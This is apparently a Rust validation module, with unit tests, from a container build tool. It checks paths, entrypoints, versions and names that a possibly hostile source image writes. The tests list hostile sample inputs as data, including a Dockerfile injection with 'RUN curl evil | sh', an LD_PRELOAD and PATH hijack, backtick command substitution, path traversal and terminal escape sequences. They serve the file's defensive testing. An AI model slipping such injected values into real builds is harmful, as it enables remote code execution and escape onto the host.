//! The shapes dpy accepts in the gather stage's answers (layout.json, stdlib.json,
//! builder-pip.json).
//!
//! Those files are written inside the source image, by its own interpreter, and a `.pth`
//! file or sitecustomize in a hostile image can make them say anything: a stdlib of
//! `/../../home`, an entrypoint holding a newline and a Dockerfile instruction, a file
//! name that is absolute. Each value is held to the narrowest shape the real answers
//! have, here, before it reaches a path on the host, a template or a label. A rule
//! returns why a value fails; its caller (`layout`, `stdlib_json`) names the file and the
//! field, so the refusal is one line.
//!
//! The shapes are those of what dpy_gather writes for real images:
//! `/usr/local/bin/python3.12`, `/usr/lib/python3/dist-packages`, `ld-musl-x86_64.so.1`,
//! `x86_64-linux-gnu`, `Debian GNU/Linux 12 (bookworm)`, `3.13.0rc1`.

use std::path::PathBuf;

/// A path, in bytes: Linux's PATH_MAX.
pub const MAX_PATH_BYTES: usize = 4096;
/// One name in a path, in bytes: Linux's NAME_MAX.
pub const MAX_NAME_BYTES: usize = 255;
/// The entries of any list or map of an answer. The largest real ones (the stdlib's
/// sources, the start-up and hot names) hold a few thousand; the bound only keeps a
/// hostile answer from making dpy work without end.
pub const MAX_ENTRIES: usize = 100_000;
/// A short text: an OS's name, a version, a package name.
pub const MAX_TEXT_BYTES: usize = 256;
/// A warning is free text (it is made safe for the terminal where it is printed), so it
/// is only bounded: in length, and in number.
pub const MAX_WARNING_BYTES: usize = 8192;
pub const MAX_WARNINGS: usize = 10_000;
/// An answer file, read whole: the real ones are a few hundred KB.
pub const MAX_ANSWER_BYTES: u64 = 16 << 20;

/// Why `c` may not stand in a path or a short text, if it may not.
fn unsafe_char(c: char) -> Option<&'static str> {
    match c {
        // A newline ends a Dockerfile instruction and a line of the terminal; NUL ends a
        // C string; no other control character has a place in a name either.
        c if c.is_control() => Some("a control character"),
        // Quotes and the backslash end or escape a quoted string: in a Dockerfile, a
        // shell script, JSON written by hand.
        '"' | '\'' | '\\' => Some("a quote or a backslash"),
        // Invisible characters, line separators and direction overrides make a printed
        // value read as another one.
        '\u{200B}'..='\u{200F}'
        | '\u{2028}'..='\u{202E}'
        | '\u{2060}'..='\u{2069}'
        | '\u{FEFF}' => Some("an invisible or direction-changing character"),
        _ => None,
    }
}

fn plain_chars(value: &str) -> Result<(), String> {
    match value
        .chars()
        .find_map(|c| unsafe_char(c).map(|why| (c, why)))
    {
        Some((c, why)) => Err(format!("it holds {why} ({})", c.escape_unicode())),
        None => Ok(()),
    }
}

fn not_longer(value: &str, most: usize) -> Result<(), String> {
    match value.len() > most {
        true => Err(format!(
            "it is {} bytes long, more than {most}",
            value.len()
        )),
        false => Ok(()),
    }
}

/// `names` (a path without its leading `/`) as a relative path of plain names: each one
/// joined under a directory stays in it.
fn plain_names(names: &str) -> Result<PathBuf, String> {
    let mut out = PathBuf::new();
    for name in names.split('/') {
        match name {
            "" => return Err("it has an empty name in it (`//`, or a `/` at an end)".into()),
            "." => return Err("it has a `.` name in it".into()),
            ".." => return Err("it has a `..` name in it".into()),
            name if name.len() > MAX_NAME_BYTES => {
                return Err(format!(
                    "it has a name longer than {MAX_NAME_BYTES} bytes in it"
                ))
            }
            name => out.push(name),
        }
    }
    Ok(out)
}

/// An absolute path inside the container (`/usr/local/lib/python3.12`): it begins with
/// `/`, every name in it is plain (no `.`, `..` or empty name), and it holds no control
/// character, quote or backslash. One `/` at its end is taken: the CA directory can come
/// from the image's SSL_CERT_DIR as written. The root itself is refused: no answer names
/// it, and a stdlib there would make the whole root the stdlib.
///
/// Returns the path without its leading `/`, to join under the directory that stands for
/// the container's root.
pub fn absolute_path(value: &str) -> Result<PathBuf, String> {
    let relative = absolute_path_or_root(value)?;
    match relative.as_os_str().is_empty() {
        true => Err("it is the root directory itself".into()),
        false => Ok(relative),
    }
}

/// An absolute path as [`absolute_path`], or `/` itself (an installation prefix may be
/// the root).
pub fn absolute_path_or_root(value: &str) -> Result<PathBuf, String> {
    not_longer(value, MAX_PATH_BYTES)?;
    let Some(names) = value.strip_prefix('/') else {
        return Err("it is not an absolute path".into());
    };
    plain_chars(value)?;
    if names.is_empty() {
        return Ok(PathBuf::new());
    }
    plain_names(names.strip_suffix('/').unwrap_or(names))
}

/// A path relative to a directory (`json/decoder.pyc`, `lib-dynload`): not absolute,
/// plain names only, the characters of [`absolute_path`].
pub fn relative_path(value: &str) -> Result<PathBuf, String> {
    not_longer(value, MAX_PATH_BYTES)?;
    if value.is_empty() {
        return Err("it is empty".into());
    }
    if value.starts_with('/') {
        return Err("it is absolute, where a relative path belongs".into());
    }
    plain_chars(value)?;
    plain_names(value)
}

/// One name in a directory (`libssl.so.3`, `C.UTF-8`, `idlelib`): a relative path of a
/// single name.
pub fn file_name(value: &str) -> Result<(), String> {
    relative_path(value)?;
    match value.contains('/') {
        true => Err("it has a `/` in it, where one file name belongs".into()),
        false => Ok(()),
    }
}

/// A library as an ELF file's DT_NEEDED names it: a file name (`libssl.so.3`), or, in a
/// few vendors' builds, an absolute path.
pub fn needed_library(value: &str) -> Result<(), String> {
    match value.starts_with('/') {
        true => absolute_path(value).map(drop),
        false => file_name(value),
    }
}

/// The interpreter that every runtime image runs: an absolute path, of a file. It becomes
/// the image's ENTRYPOINT, and its directory the first entry of PATH in an ENV line: a
/// PATH entry cannot hold `:`, and whitespace, `$` or a backtick would split or expand
/// that line's value. No real interpreter's path has any of them.
pub fn entrypoint(value: &str) -> Result<PathBuf, String> {
    if value.ends_with('/') {
        return Err("it ends in `/`, where an interpreter's file belongs".into());
    }
    let relative = absolute_path(value)?;
    match value
        .chars()
        .find(|c| c.is_whitespace() || matches!(c, ':' | '$' | '`'))
    {
        Some(c) => Err(format!(
            "it holds {:?}, which has no place in an entrypoint or a PATH entry",
            c
        )),
        None => Ok(relative),
    }
}

/// A Python version as `platform.python_version()` gives it: `3.12.4`, `3.13.0rc1`,
/// `3.14.0a1+` (free-threaded builds keep the same string). Returns the major and minor
/// numbers, for the caller to hold the layout's own against.
pub fn python_version(value: &str) -> Result<(u32, u32), String> {
    const WRONG: &str = "it is not a Python version such as 3.12.4 or 3.13.0rc1";
    if value.len() > 32 {
        return Err(WRONG.into());
    }
    let number = |part: &str| -> Option<u32> {
        let plain = !part.is_empty() && part.len() <= 4 && part.bytes().all(|b| b.is_ascii_digit());
        plain.then(|| part.parse().ok()).flatten()
    };
    let mut parts = value.splitn(3, '.');
    let (Some(major), Some(minor), Some(rest)) = (
        parts.next().and_then(number),
        parts.next().and_then(number),
        parts.next(),
    ) else {
        return Err(WRONG.into());
    };
    let digits = rest.bytes().take_while(u8::is_ascii_digit).count();
    let suffix = &rest[digits..];
    let suffix_ok = suffix
        .bytes()
        .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'+');
    match number(&rest[..digits]).is_some() && suffix_ok {
        true => Ok((major, minor)),
        false => Err(WRONG.into()),
    }
}

/// A module name: dotted identifiers, ASCII as the stdlib's are (`tkinter`,
/// `concurrent.futures`). It names a stub in the stdlib zip and a label's entry.
pub fn module_name(value: &str) -> Result<(), String> {
    not_longer(value, MAX_NAME_BYTES)?;
    let identifier = |part: &str| {
        let mut bytes = part.bytes();
        bytes
            .next()
            .is_some_and(|b| b.is_ascii_alphabetic() || b == b'_')
            && bytes.all(|b| b.is_ascii_alphanumeric() || b == b'_')
    };
    match value.split('.').all(identifier) {
        true => Ok(()),
        false => Err("it is not a module name (dotted identifiers)".into()),
    }
}

/// A word of letters, digits and `. _ + ~ -`: an OS id or version id (os-release's own
/// grammar), a machine (`x86_64`), a multiarch triplet (`x86_64-linux-gnu`), a package
/// name (`libssl3`, `ca-certificates`), a locale (`C.UTF-8`). These reach labels, package
/// URLs and file names: nothing else has a place in them. Dots alone are refused too, as
/// a word can end up as a name in a path.
pub fn word(value: &str) -> Result<(), String> {
    not_longer(value, MAX_TEXT_BYTES)?;
    if value.is_empty() {
        return Err("it is empty".into());
    }
    let allowed = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '+' | '~' | '-');
    if let Some(c) = value.chars().find(|&c| !allowed(c)) {
        return Err(format!(
            "it holds {c:?}; only letters, digits and . _ + ~ - belong in it"
        ));
    }
    match value.bytes().all(|b| b == b'.') {
        true => Err("it is dots alone".into()),
        false => Ok(()),
    }
}

/// A short printable text (`Debian GNU/Linux 12 (bookworm)`, `OpenSSL 3.0.13 30 Jan
/// 2024`): bounded, without control characters, quotes or backslashes. It reaches labels,
/// the metadata and the terminal.
pub fn text(value: &str) -> Result<(), String> {
    not_longer(value, MAX_TEXT_BYTES)?;
    plain_chars(value)
}

/// One of a few words dpy knows (a family, a libc, a package database).
pub fn one_of(value: &str, known: &[&str]) -> Result<(), String> {
    match known.contains(&value) {
        true => Ok(()),
        false => Err(format!("it is not one of {}", known.join(", "))),
    }
}

/// Free text (a warning): only its length is bounded. It is made safe where it is
/// printed (`terminal_text`), so its characters are not refused here.
pub fn free_text(value: &str, most: usize) -> Result<(), String> {
    not_longer(value, most)
}

/// Exactly `len` lowercase hex digits: a SHA-256 (64), a magic number (8).
pub fn lower_hex(value: &str, len: usize) -> Result<(), String> {
    let hex = value
        .bytes()
        .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b));
    match value.len() == len && hex {
        true => Ok(()),
        false => Err(format!("it is not {len} lowercase hex digits")),
    }
}

/// A content digest as OCI writes it: `sha256:` and 64 lowercase hex digits.
pub fn sha256_digest(value: &str) -> bool {
    value
        .strip_prefix("sha256:")
        .is_some_and(|hex| lower_hex(hex, 64).is_ok())
}

/// A list or map of `len` entries holds at most `most`.
pub fn bounded(len: usize, most: usize) -> Result<(), String> {
    match len > most {
        true => Err(format!("it has {len} entries, more than {most}")),
        false => Ok(()),
    }
}

/// `value` as a refusal shows it: quoted, every control character escaped (a message is
/// one line), and cut after 120 characters (a value can be megabytes long).
pub fn show(value: &str) -> String {
    const MOST: usize = 120;
    match value.char_indices().nth(MOST) {
        Some((at, _)) => format!("{:?}…", &value[..at]),
        None => format!("{value:?}"),
    }
}

/// A message about an answer (a JSON parser's, which can quote the answer) as one line of
/// a refusal: control and invisible characters escaped, cut after 200 characters.
pub fn brief(message: &str) -> String {
    const MOST: usize = 200;
    let mut out = String::new();
    for (i, c) in message.chars().enumerate() {
        if i == MOST {
            out.push('…');
            break;
        }
        match unsafe_char(c) {
            Some(_) if c != '"' && c != '\'' && c != '\\' => out.extend(c.escape_default()),
            _ => out.push(c),
        }
    }
    out
}

/// `value` checked by `rule`, a refusal naming `field` and the value:
/// `python.stdlib "/../x": it has a `..` name in it`.
pub fn field<T>(
    field: impl std::fmt::Display,
    value: &str,
    rule: impl FnOnce(&str) -> Result<T, String>,
) -> Result<T, String> {
    rule(value).map_err(|why| format!("{field} {}: {why}", show(value)))
}

/// Every entry of the list `items` checked by `rule`, after the list's length: a refusal
/// names the entry (`hot[3]`).
pub fn list<T: AsRef<str>>(
    name: &str,
    items: &[T],
    rule: impl Fn(&str) -> Result<(), String>,
) -> Result<(), String> {
    bounded(items.len(), MAX_ENTRIES).map_err(|why| format!("{name}: {why}"))?;
    for (i, item) in items.iter().enumerate() {
        field(format_args!("{name}[{i}]"), item.as_ref(), &rule)?;
    }
    Ok(())
}

/// An answer of the source's code (`file`, written by its `stage`), parsed and then held
/// to `check`. A refusal names the file and the field, says how such a file comes about,
/// and exits 12: the source is unfit, and nothing has been built from it yet.
pub fn answer<T: serde::de::DeserializeOwned>(
    text: &str,
    stage: &str,
    file: &str,
    check: impl Fn(&T) -> Result<(), String>,
) -> crate::error::Result<T> {
    let refuse = |why: String| {
        crate::error::Error::SourceUnfit(format!(
            "the {stage} wrote a {file} dpy refuses: {why}; a .pth file or sitecustomize in the source image can make its interpreter write this; build from an unaltered source image"
        ))
    };
    let value: T = serde_json::from_str(text).map_err(|e| refuse(brief(&e.to_string())))?;
    check(&value).map_err(refuse)?;
    Ok(value)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::path::Component;
    use std::path::Path;

    fn plain(path: &Path) -> bool {
        path.components().all(|c| matches!(c, Component::Normal(_)))
    }

    /// Each rule against values real images give (good) and values a hostile one could
    /// write (bad).
    fn table<T>(rule: impl Fn(&str) -> Result<T, String>, good: &[&str], bad: &[&str]) {
        for value in good {
            assert!(
                rule(value).is_ok(),
                "{value:?} refused: {:?}",
                rule(value).err()
            );
        }
        for value in bad {
            let why = rule(value)
                .err()
                .unwrap_or_else(|| panic!("{value:?} taken"));
            assert!(!why.contains('\n'), "{why}");
        }
    }

    /// What hostile values of any path look like.
    const HOSTILE_PATHS: &[&str] = &[
        "",
        "/",
        "//",
        "/..",
        "/../../../some/host/dir",
        "/usr/lib/../../etc",
        "/usr/./lib",
        "/usr//lib",
        "//usr/lib",
        "usr/lib",
        "/usr/lib\n",
        "/usr/bin/python3\"]\nRUN curl evil | sh\n#",
        "/usr/lib/python3'",
        "/usr/lib\\python3",
        "/usr/lib/\0python3",
        "/usr/lib/\x1b[2Jpython3",
        "/usr/lib/\u{202e}3nohtyp",
        "/usr/lib/\u{2028}",
    ];

    #[test]
    fn absolute_paths() {
        table(
            absolute_path,
            &[
                "/usr/local/bin/python3.12",
                "/usr/lib/python3.11",
                "/usr/lib/python3/dist-packages",
                "/usr/local/lib/python3.12/lib-dynload",
                "/usr/lib/python3.11/lib-dynload",
                "/lib/ld-musl-x86_64.so.1",
                "/lib64/ld-linux-x86-64.so.2",
                "/usr/lib/x86_64-linux-gnu/libssl.so.3",
                "/usr/local/lib/python312-stdlib.zip",
                "/etc/ssl/certs/",
                "/opt/pythön/bin",
                "/opt/my python/bin",
            ],
            HOSTILE_PATHS,
        );
        assert_eq!(
            absolute_path("/usr/lib/python3.11").unwrap(),
            PathBuf::from("usr/lib/python3.11")
        );
        assert_eq!(
            absolute_path("/etc/ssl/certs/").unwrap(),
            PathBuf::from("etc/ssl/certs")
        );
        let long_name = format!("/usr/{}", "a".repeat(256));
        let long_path = "/a".repeat(2049);
        for value in [long_name.as_str(), long_path.as_str()] {
            assert!(absolute_path(value).is_err());
        }
        assert!(absolute_path(&format!("/usr/{}", "a".repeat(255))).is_ok());
    }

    #[test]
    fn the_root_is_a_prefix_but_no_other_path() {
        assert_eq!(absolute_path_or_root("/").unwrap(), PathBuf::new());
        assert_eq!(
            absolute_path_or_root("/usr/local").unwrap(),
            PathBuf::from("usr/local")
        );
        assert!(absolute_path("/").is_err());
        for bad in ["", "usr", "/..", "//", "/usr/../"] {
            assert!(absolute_path_or_root(bad).is_err(), "{bad:?}");
        }
    }

    #[test]
    fn relative_paths() {
        table(
            relative_path,
            &[
                "json/decoder.pyc",
                "_dpy_zipimport.pyc",
                "lib-dynload",
                "site-packages",
                "encodings/__init__.pyc",
                "_sysconfigdata__x86_64-linux-gnu.py",
                "venv",
                "..pyc",
                "...",
            ],
            &[
                "",
                "/etc/passwd.py",
                "../outside.py",
                "json/../../x.py",
                "./json.py",
                "json//decoder.py",
                "json/",
                "json\n.py",
                "json\".py",
                "json\\decoder.py",
            ],
        );
        assert_eq!(
            relative_path("json/decoder.pyc").unwrap(),
            PathBuf::from("json/decoder.pyc")
        );
    }

    #[test]
    fn file_names() {
        table(
            file_name,
            &[
                "libssl.so.3",
                "ld-musl-x86_64.so.1",
                "libpython3.12.so",
                ".cpython-312-x86_64-linux-gnu.so",
                "_tkinter.cpython-312-x86_64-linux-musl.so",
                "C.UTF-8",
                "idlelib",
                "turtle.py",
            ],
            &["", ".", "..", "a/b", "/libc.so", "lib\nc.so", "lib\"c"],
        );
    }

    #[test]
    fn needed_libraries() {
        table(
            needed_library,
            &["libssl.so.3", "libtk8.6.so", "/opt/vendor/lib/libfoo.so.1"],
            &[
                "",
                "lib/libfoo.so",
                "../libfoo.so",
                "/opt/../libfoo.so",
                "libfoo\n.so",
            ],
        );
    }

    #[test]
    fn entrypoints() {
        table(
            entrypoint,
            &[
                "/usr/local/bin/python3",
                "/usr/bin/python3",
                "/usr/bin/python3.11",
                "/opt/python/3.13/bin/python3.13t",
            ],
            &[
                "/usr/local/bin/python3\"]\nENTRYPOINT [\"/bin/sh",
                "/usr/local/bin/",
                "/opt/my python/bin/python3",
                "/x LD_PRELOAD=/tmp/evil.so/python3",
                "/usr/bin:/tmp/evil/python3",
                "/usr/$HOME/python3",
                "/usr/`id`/python3",
                "python3",
                "/",
            ],
        );
        for bad in HOSTILE_PATHS {
            assert!(entrypoint(bad).is_err(), "{bad:?}");
        }
    }

    #[test]
    fn python_versions() {
        table(
            python_version,
            &[
                "3.12.4",
                "3.11.2",
                "3.13.0",
                "3.9.19",
                "3.13.0rc1",
                "3.14.0a1+",
                "3.14.0b2",
                "3.12.0+",
                "3.15.0a0",
            ],
            &[
                "",
                "3",
                "3.12",
                "3.12.",
                "3.12.4\n",
                "3.12.4 ",
                "3.12.4-rc1",
                "3.12.4RC1",
                "v3.12.4",
                "3..4",
                "3.12.x",
                "99999.1.1",
                "3.12.4\"",
                "3.12.4/..",
                "3.12.4aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
            ],
        );
        assert_eq!(python_version("3.12.4").unwrap(), (3, 12));
        assert_eq!(python_version("3.14.0a1+").unwrap(), (3, 14));
    }

    #[test]
    fn module_names() {
        table(
            module_name,
            &[
                "tkinter",
                "concurrent.futures",
                "_ssl",
                "idlelib",
                "lib2to3",
                "_dpy_zipimport",
            ],
            &[
                "",
                ".",
                "a.",
                ".a",
                "a..b",
                "1abc",
                "a-b",
                "a/b",
                "tk inter",
                "tkinter\n",
                "é",
            ],
        );
    }

    #[test]
    fn words() {
        table(
            word,
            &[
                "debian",
                "alpine",
                "12",
                "3.20.3",
                "x86_64",
                "aarch64",
                "armv7l",
                "ppc64le",
                "x86_64-linux-gnu",
                "aarch64-linux-musl",
                "libssl3",
                "ca-certificates",
                "libstdc++6",
                "C.UTF-8",
                "C.utf8",
                "24.0",
                "23.0.1",
                "1.2~rc1",
                "so_name",
            ],
            &[
                "",
                ".",
                "..",
                "x86_64/..",
                "a b",
                "a\nb",
                "debian\"",
                "a&distro=x",
                "a?b",
                "a#b",
                "a:b",
                "débian",
            ],
        );
    }

    #[test]
    fn texts() {
        table(
            text,
            &[
                "Debian GNU/Linux 12 (bookworm)",
                "Alpine Linux v3.20",
                "Debian GNU/Linux trixie/sid",
                "OpenSSL 3.0.13 30 Jan 2024",
                "",
            ],
            &[
                "Debian\n",
                "Debian\r",
                "Debian \"12\"",
                "Alpine's",
                "a\\b",
                "\u{1b}]0;title\u{7}",
                "\u{202e}xinu",
            ],
        );
        assert!(text(&"a".repeat(MAX_TEXT_BYTES + 1)).is_err());
    }

    #[test]
    fn known_words_hex_and_bounds() {
        let families = ["alpine", "debian", "other"];
        table(
            |v| one_of(v, &families),
            &["alpine", "debian", "other"],
            &["", "Alpine", "ubuntu", "alpine\n"],
        );
        let sha = "a".repeat(64);
        table(
            |v| lower_hex(v, 64),
            &[
                &sha,
                "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
            ],
            &["", "abc", &"A".repeat(64), &"g".repeat(64), &"a".repeat(65)],
        );
        table(
            |v| lower_hex(v, 8),
            &["cb0d0d0a", "a70d0d0a"],
            &["cb0d0d0", "0xcb0d0d", ""],
        );
        assert!(sha256_digest(&format!("sha256:{sha}")));
        for bad in [
            sha.clone(),
            format!("sha256:{}", "A".repeat(64)),
            format!("sha512:{sha}"),
            format!("sha256:{sha}0"),
            "sha256:".to_string(),
        ] {
            assert!(!sha256_digest(&bad), "{bad}");
        }
        assert!(bounded(MAX_ENTRIES, MAX_ENTRIES).is_ok());
        assert!(bounded(MAX_ENTRIES + 1, MAX_ENTRIES).is_err());
        assert!(free_text("control \u{1b}[2J is fine here", 100).is_ok());
        assert!(free_text(&"a".repeat(101), 100).is_err());
    }

    #[test]
    fn refusals_are_one_line_and_name_the_field() {
        let why = field("python.stdlib", "/../\n../x", absolute_path).unwrap_err();
        assert!(why.starts_with("python.stdlib \"/../\\n../x\": "), "{why}");
        assert!(!why.contains('\n'));
        let long = "/".to_string() + &"a\n".repeat(10_000);
        let why = field("python.stdlib", &long, absolute_path).unwrap_err();
        assert!(why.len() < 400 && !why.contains('\n'), "{why}");
        let why = list("hot", &["a.pyc", "/etc/x.pyc"], |v| {
            relative_path(v).map(drop)
        })
        .unwrap_err();
        assert!(why.starts_with("hot[1] \"/etc/x.pyc\": "), "{why}");
        let many = vec!["a"; MAX_ENTRIES + 1];
        assert!(list("packages", &many, word)
            .unwrap_err()
            .starts_with("packages: "));
    }

    #[test]
    fn every_path_a_rule_gives_stays_under_its_directory() {
        let dir = Path::new("/export/root");
        for value in ["/usr/lib/python3.11", "/etc/ssl/certs/", "/a/b/c/d"] {
            let joined = dir.join(absolute_path(value).unwrap());
            assert!(joined.starts_with(dir) && joined != dir);
            assert!(plain(&absolute_path(value).unwrap()));
        }
        assert!(plain(&relative_path("json/decoder.py").unwrap()));
    }
}
